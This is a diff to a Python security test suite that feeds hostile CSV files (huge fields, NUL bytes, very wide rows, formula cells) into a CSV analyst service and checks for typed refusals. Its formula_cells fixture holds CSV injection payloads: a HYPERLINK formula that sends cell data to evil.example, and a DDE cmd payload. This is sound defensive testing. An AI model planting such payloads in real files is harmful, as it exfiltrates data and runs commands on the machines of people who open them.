@@ -5,7 +5,7 @@ error; never a crash, a silently dropped row, or a hung service. The files are g
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -14,7 +14,8 @@ import grpc
 import pytest
 
 from analyst_service.export import to_csv
-from csv_analyst.v1 import analyst_service_pb2 as api, run_pb2
+from csv_analyst.v1 import analyst_service_pb2 as api, analyst_service_pb2_grpc, run_pb2
+from tests.conftest import RunningStack
 from tests.security.harness import leaks
 
 pytestmark = [pytest.mark.bwrap, pytest.mark.timeout(180)]
@@ -30,8 +31,6 @@ class HostileCsv:
             the catalog's INVALID_ARGUMENT.
         note: Text the capsule's sandbox stderr must contain (the reported issue), or "".
         or_issue: An issue that is an acceptable typed refusal instead of ingestion (limits).
-        slow: Profiling may hit the 3 s red-team run_timeout on a loaded machine; a typed
-            refusal naming run_timeout is then acceptable for Ask (SubmitRun must still succeed).
     """
 
     name: str
@@ -40,7 +39,6 @@ class HostileCsv:
     issue: str = ""
     note: str = ""
     or_issue: str = ""
-    slow: bool = False
 
 
 FILES = [
@@ -59,10 +57,8 @@ FILES = [
                                                 + "\n").encode(), 3,
                # DuckDB's reader needs ~1 GB of address space for 2,000 columns; the red-team
                # sandbox caps it at 4 x 256 MB, so a typed memory refusal is acceptable too.
-               # Profiling 2,000 columns takes 1-1.5 s of the 3 s limit on an idle machine of
-               # this kind, so on a loaded one a typed time-out is an acceptable outcome as well.
-               or_issue="out_of_memory", slow=True),
-    HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2, slow=True),
+               or_issue="out_of_memory"),
+    HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2),
     HostileCsv("formula_cells", lambda: (b'id,link,note\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+1\n'
                                          b"2,@SUM(A1:A9),-2+3\n3,=cmd|' /C calc'!A0,ok\n"), 3),
     HostileCsv("nul_bytes", lambda: b"id,val\n1,a\x00b\n2,c\n", 2),
@@ -79,6 +75,15 @@ FILES = [
 
 def test_there_are_at_least_twelve_hostile_files() -> None:
     assert len(FILES) >= 12 and len({f.name for f in FILES}) == len(FILES)
+
+
+@pytest.fixture(scope="module")
+def analyst(roomy_stack: RunningStack) -> Iterator[Any]:
+    """An AnalystService stub on the roomy stack: these files test ingestion, not time limits,
+    so a loaded machine must not turn a slow honest file into a timeout."""
+    channel = grpc.insecure_channel(roomy_stack.analyst_target)
+    yield analyst_service_pb2_grpc.AnalystServiceStub(channel)
+    channel.close()
 
 
 @pytest.fixture(scope="module")
@@ -135,7 +140,6 @@ def test_ask_answers_or_fails_typed(hostile: HostileCsv, csv_dir: Path, analyst:
     run = events[-1].run
     assert events[-1].stage == run_pb2.STAGE_DONE
     refused_for_memory = bool(hostile.or_issue) and "run_memory" in run.error.message
-    refused_for_memory |= hostile.slow and "run_timeout" in run.error.message
     if hostile.rows is None or refused_for_memory:
         assert run.state in (run_pb2.RUN_STATE_REJECTED, run_pb2.RUN_STATE_FAILED), run
         assert run.error.status_code in (grpc.StatusCode.INVALID_ARGUMENT.value[0],
